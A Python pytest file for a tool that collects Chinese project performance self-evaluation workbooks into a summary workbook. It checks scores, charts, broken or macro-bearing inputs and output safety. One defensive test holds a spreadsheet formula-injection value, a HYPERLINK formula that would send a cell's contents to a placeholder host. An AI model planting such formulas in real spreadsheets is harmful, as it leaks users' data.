"""evaltool collect: real workbooks built by `evaltool new --from CASE`, read back from the real 汇总 file."""
from __future__ import annotations

import contextlib
import importlib.util
import multiprocessing
import json
import os
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from conftest import case_files
from evaltool.cli import main
from evaltool.collect import collect, collect_folder
from evaltool.core.caseio import case_to_dict, load_case
from evaltool.core.errors import InputError

ROOT = Path(__file__).resolve().parents[1]
_spec = importlib.util.spec_from_file_location("gen_workbooks", ROOT / "benchmarks" / "gen_workbooks.py")
gen = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(gen)

SELF_EVAL_CASES = case_files("自评表")


def new_workbook(case: Path, out: Path) -> Path:
    """A filled workbook exactly as a clerk gets it: `evaltool new --from CASE -o FILE`."""
    out.parent.mkdir(parents=True, exist_ok=True)
    result = CliRunner().invoke(main, ["new", "--from", str(case), "-o", str(out)])
    assert result.exit_code in (0, 1), result.output  # 1: the form has errors (new exits as check)
    assert out.exists()
    return out


@pytest.fixture(scope="module")
def case_folder(tmp_path_factory) -> Path:
    """Every shared 自评表 case as a workbook, some in a sub-folder (collect is recursive)."""
    folder = tmp_path_factory.mktemp("submitted")
    for i, case in enumerate(SELF_EVAL_CASES):
        sub = folder / ("某县财政局" if i % 2 else "")
        new_workbook(case, sub / f"{case.stem}.xlsx")
    return folder


def sheet_dicts(path: Path, title: str) -> list[dict]:
    wb = openpyxl.load_workbook(path, read_only=True)
    rows = list(wb[title].iter_rows(values_only=True))
    wb.close()
    header = rows[0]
    return [dict(zip(header, r)) for r in rows[1:] if any(v is not None for v in r)]


def snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    return {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*")) if p.is_file()}


def same_cells(row: dict) -> dict:
    return {k: round(v, 9) if isinstance(v, (int, float)) and not isinstance(v, bool) else v
            for k, v in row.items() if v is not None}


def dec(x) -> Decimal:
    return Decimal(str(x))


# ---- the shared cases --------------------------------------------------------------------------
def test_rows_give_every_case_its_expected_numbers(case_folder, tmp_path):
    out = tmp_path / "汇总.xlsx"
    summary = collect([case_folder], out, workers=1)
    assert summary.files == summary.read == len(SELF_EVAL_CASES)
    assert summary.unreadable == []
    rows = {r["项目"]: r for r in sheet_dicts(out, "汇总")}
    assert len(rows) == len(SELF_EVAL_CASES) == summary.projects
    for case in SELF_EVAL_CASES:
        data = yaml.safe_load(case.read_text("utf-8"))
        expected, row = data["期望"], rows[data["项目名称"]]
        total_row = data["项目资金"]["年度资金总额"]
        assert row["单位"] == data["实施单位"] and row["主管部门"] == data["主管部门"], case.name
        assert dec(row["预算数（万元）"]) == dec(total_row["全年预算数"]), case.name
        assert dec(row["执行数（万元）"]) == dec(total_row["全年执行数"]), case.name
        assert dec(row["执行率"]) == dec(expected["执行率"]), case.name
        assert dec(row["执行率得分"]) == dec(expected["执行率得分"]), case.name
        assert dec(row["总分"]) == dec(expected["总分"]), case.name
        assert row["等次"] == expected["等次"], case.name
        # The subtotals per 一级指标 and the 执行率 points add up to the 总分.
        subtotal_cols = [k for k in row if k.endswith("指标") and k not in ("单位",)]
        assert {"产出指标", "效益指标", "满意度指标"} <= set(subtotal_cols)
        assert sum(dec(row[k] or 0) for k in subtotal_cols) + dec(row["执行率得分"]) == dec(row["总分"])
        assert row["错误数"] <= len(expected.get("标记", [])), case.name
        assert row["文件"].endswith(case.stem + ".xlsx") and row["工作表"]


def test_summary_sheets_and_native_charts(case_folder, tmp_path):
    out = tmp_path / "汇总.xlsx"
    collect([case_folder], out, workers=1)
    rows = sheet_dicts(out, "汇总")
    depts = {r["主管部门"]: r for r in sheet_dicts(out, "主管部门汇总")}
    total = depts.pop("合计")
    assert total["项目数"] == len(rows) == sum(d["项目数"] for d in depts.values())
    assert dec(total["预算数合计（万元）"]) == sum(dec(r["预算数（万元）"]) for r in rows)
    assert total["优"] == sum(r["等次"] == "优" for r in rows)
    mean = sum(dec(r["执行率"]) for r in rows) / len(rows)
    assert abs(dec(total["平均执行率（各项目）"]) - mean) < Decimal("0.00005")
    # Each department's count matches its rows.
    for name, d in depts.items():
        assert d["项目数"] == sum(r["主管部门"] == name for r in rows)
    with zipfile.ZipFile(out) as zf:
        charts = [n for n in zf.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 2
        xml = b"".join(zf.read(n) for n in charts).decode("utf-8")
    assert "等次分布" in xml and "执行率分布" in xml and xml.count("barChart>") == 4  # two bar charts, open + close tags
    grades = dict(list(openpyxl.load_workbook(out)["图表"].iter_rows(min_row=2, max_row=5, values_only=True)))
    assert grades["优"] == sum(r["等次"] == "优" for r in rows)


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) not installed")
def test_libreoffice_reads_and_prints_the_summary(mixed_folder, case_folder, tmp_path, soffice):
    out = tmp_path / "汇总.xlsx"
    collect([case_folder, mixed_folder], out, workers=1)
    resaved, = soffice([out], "xlsx", tmp_path / "lo")
    for title in ("汇总", "问题清单", "主管部门汇总", "无法读取的文件"):
        ours, theirs = sheet_dicts(out, title), sheet_dicts(resaved, title)
        assert len(theirs) == len(ours) > 0, title
        for a, b in zip(ours, theirs):  # the same cells (LibreOffice may store 10.0 as 10)
            assert same_cells(a) == same_cells(b), title
    pdf, = soffice([out], "pdf", tmp_path / "pdf")
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True).stdout \
        if shutil.which("pdftotext") else ""
    assert pdf.stat().st_size > 5000 and (not text or ("汇总" in text or "主管部门" in text))


def _set_setting(path: Path, label: str, value) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb["设置"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == label)
    ws.cell(cell.row, cell.column + 1).value = value
    wb.save(path)


def test_collect_scores_each_workbook_as_check_does(tmp_path):
    """Same 总分 and the same findings on the same cells as `evaltool check` (the 报告素材 text
    comparison aside, which check does at the unit): decimals from the 设置 sheet, its own
    problems, a filled 预算执行偏差原因 that answers the rate warning."""
    from evaltool.cli import load_projects
    from evaltool.workbook.workbook_cli import evaluate_projects
    from evaltool.report.report_cli import _material_findings

    folder = tmp_path / "收件"
    for case in SELF_EVAL_CASES:
        new_workbook(case, folder / f"{case.stem}.xlsx")
    first = folder / f"{SELF_EVAL_CASES[0].stem}.xlsx"
    zero, bad = folder / "整数.xlsx", folder / "坏小数位.xlsx"
    shutil.copy(first, zero)
    shutil.copy(first, bad)
    _set_setting(zero, "小数位", 0)
    _set_setting(bad, "小数位", "abc")
    collect([folder], tmp_path / "汇总.xlsx", workers=1)
    rows = {r["文件"]: r for r in sheet_dicts(tmp_path / "汇总.xlsx", "汇总")}
    listed = sheet_dicts(tmp_path / "汇总.xlsx", "问题清单")
    for path in sorted(folder.glob("*.xlsx")):
        (project, result), = evaluate_projects(load_projects(str(path)))
        text_checks = {f.code for f in _material_findings(project, result)}
        want = sorted((f.location.sheet or "", f.location.cell or "", f.code) for f in result.findings
                      if f.code not in text_checks)
        got = sorted((f["工作表"] or "", f["单元格"] or "", f["代码"]) for f in listed
                     if f["文件"] == path.name and f["代码"] not in ("W-DUPLICATE", "W-MACRO"))
        assert got == want, path.name
        assert dec(rows[path.name]["总分"]) == result.total, path.name
    assert dec(rows["整数.xlsx"]["总分"]) == dec(rows["整数.xlsx"]["总分"]).to_integral_value()
    assert any(f["代码"] == "E-PLACES" and f["文件"] == "坏小数位.xlsx" for f in listed)


# ---- broken and suspicious files ---------------------------------------------------------------
@pytest.fixture(scope="module")
def mixed_folder(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("mixed")
    new_workbook(SELF_EVAL_CASES[0], folder / "正常.xlsx")
    good = (folder / "正常.xlsx").read_bytes()
    gen.make_truncated(folder / "截断.xlsx", good)
    gen.make_not_a_form(folder / "工资表.xlsx")
    gen.make_docx_as_xlsx(folder / "报告.xlsx")
    gen.make_encrypted(folder / "加密.xlsx", good)
    (folder / "宏").mkdir()
    gen.make_macro(folder / "宏" / "含宏.xlsm", good)
    (folder / "空.xlsx").write_bytes(b"")
    (folder / "~$正常.xlsx").write_bytes(b"\x07owner")  # Excel's lock file: not a submission
    (folder / "说明.docx").write_bytes(b"not collected")  # reports beside workbooks are ignored
    return folder


def test_broken_files_are_listed_with_reasons_and_never_crash(mixed_folder, tmp_path):
    before = snapshot(mixed_folder)
    out = tmp_path / "汇总.xlsx"
    summary = collect([mixed_folder], out, workers=1)
    reasons = dict(summary.unreadable)
    assert set(reasons) == {"截断.xlsx", "工资表.xlsx", "报告.xlsx", "加密.xlsx", "空.xlsx"}
    assert "损坏或不完整" in reasons["截断.xlsx"]
    assert "不是项目支出绩效自评表" in reasons["工资表.xlsx"] and "“工资表”" in reasons["工资表.xlsx"]
    assert "Word 文档" in reasons["报告.xlsx"]
    assert "密码" in reasons["加密.xlsx"]
    assert "空的" in reasons["空.xlsx"]
    # The macro workbook is read (its project counts) and warned about.
    assert summary.read == 2 and summary.projects == 2 and summary.macro_files == ["宏/含宏.xlsm"]
    listed = {r["文件"]: r["原因"] for r in sheet_dicts(out, "无法读取的文件")}
    assert listed == reasons
    macro_findings = [f for f in sheet_dicts(out, "问题清单") if f["代码"] == "W-MACRO"]
    assert [f["文件"] for f in macro_findings] == ["宏/含宏.xlsm"] and "宏" in macro_findings[0]["说明"]
    # Inputs untouched, byte for byte and in time; nothing new in the folder; no macro copied out.
    assert snapshot(mixed_folder) == before
    with zipfile.ZipFile(out) as zf:
        assert not any("vba" in n.lower() for n in zf.namelist())
    assert not list(tmp_path.glob(".*.part"))


def test_cli_collect_exit_codes_and_json(mixed_folder, tmp_path):
    out = tmp_path / "结果.xlsx"
    res = CliRunner().invoke(main, ["collect", str(mixed_folder), "-o", str(out), "--json", "-j", "1"])
    assert res.exit_code == 1, res.output  # unreadable files are a problem to act on
    data = json.loads(res.output)
    assert data["项目数"] == 2 and len(data["无法读取"]) == 5 and out.exists()
    res = CliRunner().invoke(main, ["collect", str(tmp_path / "没有这个文件夹"), "-o", str(out)])
    assert res.exit_code == 2 and "找不到文件或文件夹" in res.output
    res = CliRunner().invoke(main, ["collect", str(mixed_folder), "-o", str(tmp_path / "x.csv")])
    assert res.exit_code == 2 and ".xlsx" in res.output


def test_output_that_cannot_be_written_gives_a_chinese_message_and_no_noise(mixed_folder, tmp_path, monkeypatch,
                                                                             capfd):
    import gc
    import sys

    from evaltool.core import fileio

    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)

    def busy(*args):
        raise PermissionError(13, "Permission denied")  # 汇总.xlsx open in Excel on Windows

    monkeypatch.setattr(fileio.os, "replace", busy)
    res = CliRunner().invoke(main, ["collect", str(mixed_folder), "-o", str(tmp_path / "汇总.xlsx"), "-j", "1"])
    gc.collect()  # the unfinished workbook's sheet streams are closed, not left to complain
    assert res.exit_code == 2 and "无法写入 汇总.xlsx" in res.output and "关闭该文件" in res.output
    assert not unraisable and "Exception ignored" not in capfd.readouterr().err
    assert not list(tmp_path.iterdir())  # no partial output, no temporary file
    # Stopped (Ctrl+C) just before the workbook is written: nothing left behind, no noise either.

    def interrupt(done, total, file):
        if file == "正在写入汇总工作簿……":
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        collect([mixed_folder], tmp_path / "汇总.xlsx", workers=1, progress=interrupt)
    gc.collect()
    assert not unraisable and "Exception ignored" not in capfd.readouterr().err
    assert not list(tmp_path.iterdir())


# ---- output safety -----------------------------------------------------------------------------
FORMULAS = {
    "项目名称": '=HYPERLINK("http://example.invalid/?d="&B2,"点击")',
    "实施单位": "+86 0564 联系人",
    "主管部门": "@财政局",
}


def test_formula_like_text_is_written_as_text(tmp_path):
    data = case_to_dict(load_case(SELF_EVAL_CASES[0]), include_expected=True)
    data.update(FORMULAS)
    data["绩效指标"][0]["实际完成值"] = "-见附件"  # a finding quoting this text lands in 问题清单
    case = tmp_path / "公式.yaml"
    case.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    folder = tmp_path / "in"
    new_workbook(case, folder / "公式.xlsx")
    out = tmp_path / "汇总.xlsx"
    summary = collect([folder], out, workers=1)
    assert summary.projects == 1
    row = sheet_dicts(out, "汇总")[0]
    assert row["项目"] == FORMULAS["项目名称"] and row["单位"] == FORMULAS["实施单位"]
    assert row["主管部门"] == FORMULAS["主管部门"]
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        for n in sheets:
            assert b"<f>" not in zf.read(n) and b"<f " not in zf.read(n), n
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb for r in ws.iter_rows() for c in r if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in cells} >= set(FORMULAS.values())
    assert all(c.data_type == "s" for c in cells)


def test_output_replaces_only_an_earlier_summary_and_is_never_an_input(case_folder, tmp_path):
    folder = tmp_path / "folder"
    shutil.copytree(case_folder, folder)
    submitted = sorted(folder.rglob("*.xlsx"))[0]
    # A clerk's workbook that happens to be called 汇总.xlsx is never overwritten (named as the output:
    # refused; without one the 汇总 goes to 汇总(2).xlsx, tests/test_fidelity.py).
    shutil.copy(submitted, folder / "汇总.xlsx")
    before = (folder / "汇总.xlsx").read_bytes()
    with pytest.raises(InputError, match="不是 evaltool 生成的汇总表"):
        collect([folder], folder / "汇总.xlsx")
    assert (folder / "汇总.xlsx").read_bytes() == before
    with pytest.raises(InputError, match="是要汇总的文件之一"):
        collect([submitted, folder], submitted)
    (folder / "汇总.xlsx").unlink()
    first = collect_folder(folder, workers=1)
    assert Path(first.output) == folder / "汇总.xlsx" and first.files == len(SELF_EVAL_CASES)
    second = collect_folder(folder, folder / "汇总.xlsx", workers=1)  # named: replaces its earlier 汇总, never an input
    assert second.files == first.files and second.unreadable == []
    assert [p.name for p in folder.iterdir() if p.name.startswith(".")] == []  # no temporary file left
    assert "已汇总" in second.message()
    # Another day, another name: yesterday's 汇总 in the folder is skipped, not reported as unreadable.
    third = collect_folder(folder, folder / "汇总-次日.xlsx", workers=1)
    assert third.earlier_summaries == ["汇总.xlsx"] and third.unreadable == [] and third.read == first.read
    umask = os.umask(0)
    os.umask(umask)
    assert (folder / "汇总.xlsx").stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's private 0600


def test_parallel_run_equals_inline_run(tmp_path):
    folder = tmp_path / "many"
    n = len(SELF_EVAL_CASES)
    for i in range(12):  # above the inline threshold: runs on worker processes
        case = SELF_EVAL_CASES[i % n]
        target = folder / f"单位{i:02d}" / f"{case.stem}.xlsx"
        if i < n:
            new_workbook(case, target)
        else:
            target.parent.mkdir(parents=True)
            shutil.copy(folder / f"单位{i % n:02d}" / f"{case.stem}.xlsx", target)
    seen, shown = [], []

    @contextlib.contextmanager
    def display():  # the CLI's progress bar: it runs a thread, so it starts after the workers
        shown.append(len(multiprocessing.active_children()))
        yield
        shown.append("closed")

    a = collect([folder], tmp_path / "a.xlsx", workers=2, progress=lambda d, t, f: seen.append((d, t, f)),
                display=display())
    assert shown == [2, "closed"]
    b = collect([folder], tmp_path / "b.xlsx", workers=1)
    assert a.projects == b.projects == 12
    # Copies of the same project (单位, 项目, 年度) are flagged, each copy after the first.
    assert a.duplicates == b.duplicates == 12 - len(SELF_EVAL_CASES)
    dup = [f for f in sheet_dicts(tmp_path / "a.xlsx", "问题清单") if f["代码"] == "W-DUPLICATE"]
    assert len(dup) == a.duplicates and all("重复" in f["说明"] for f in dup)
    # Progress: announced at 0, once per file in order, then while the workbook is written.
    assert [d for d, _, _ in seen] == list(range(0, 13)) + [12] and {t for _, t, _ in seen} == {12}
    assert seen[-1][2] == "正在写入汇总工作簿……"
    assert sheet_dicts(tmp_path / "a.xlsx", "汇总") == sheet_dicts(tmp_path / "b.xlsx", "汇总")
    assert sheet_dicts(tmp_path / "a.xlsx", "问题清单") == sheet_dicts(tmp_path / "b.xlsx", "问题清单")


def test_every_form_sheet_of_a_workbook_is_one_row(tmp_path):
    folder = tmp_path / "in"
    path = new_workbook(SELF_EVAL_CASES[0], folder / "两个项目.xlsx")
    name = yaml.safe_load(SELF_EVAL_CASES[0].read_text("utf-8"))["项目名称"]
    wb = openpyxl.load_workbook(path)
    copy = wb.copy_worksheet(wb.worksheets[0])  # a second form in the same workbook
    copy.title = "第二个项目"
    for row in copy.iter_rows():
        for c in row:
            if c.value == name:
                c.value = "第二个项目名称"
    wb.save(path)
    summary = collect([folder], tmp_path / "汇总.xlsx", workers=1)
    rows = sheet_dicts(tmp_path / "汇总.xlsx", "汇总")
    assert summary.read == 1 and summary.projects == 2
    assert {(r["工作表"], r["项目"]) for r in rows} >= {("第二个项目", "第二个项目名称")}
    assert rows[0]["总分"] == rows[1]["总分"] and rows[0]["文件"] == rows[1]["文件"] == "两个项目.xlsx"


def test_a_scoresheet_is_read_and_named_not_listed_as_unreadable(case_folder, tmp_path):
    """SWEEP S39: a valid 评分表 among the 自评表 was listed under 无法读取的文件 with the false reason
    "没有找到项目支出绩效自评表" and raised the exit code. It is read, named as not summarised (a
    评分表 has no 汇总 row), and the exit code is that of the folder without it."""
    scoresheet = next(iter(case_files("评分表")))
    inbox = tmp_path / "收件"
    shutil.copytree(case_folder, inbox)
    new_workbook(scoresheet, inbox / "评分表.xlsx")
    out = tmp_path / "汇总.xlsx"
    without = CliRunner().invoke(main, ["collect", str(case_folder), "-o", str(tmp_path / "无.xlsx"), "-j", "1"])
    res = CliRunner().invoke(main, ["collect", str(inbox), "-o", str(out), "-j", "1"])
    assert res.exit_code == without.exit_code, res.output
    assert "无法读取" not in res.output and "评分表.xlsx（项目支出绩效评价评分表）" in res.output.replace("\n", "")
    about = {r["项目"]: r["内容"] for r in sheet_dicts(out, "说明")}
    assert "评分表.xlsx" in about["未汇总的表格"] and about["无法读取的文件"] in (0, "0")
    assert not any("评分表.xlsx" in str(r.get("文件")) for r in sheet_dicts(out, "汇总"))
    res = CliRunner().invoke(main, ["collect", str(inbox), "-o", str(out), "--json", "-j", "1"])
    data = json.loads(res.output)
    assert data["无法读取"] == [] and data["未汇总的表格"] == [{"文件": "评分表.xlsx", "表格": "项目支出绩效评价评分表"}]
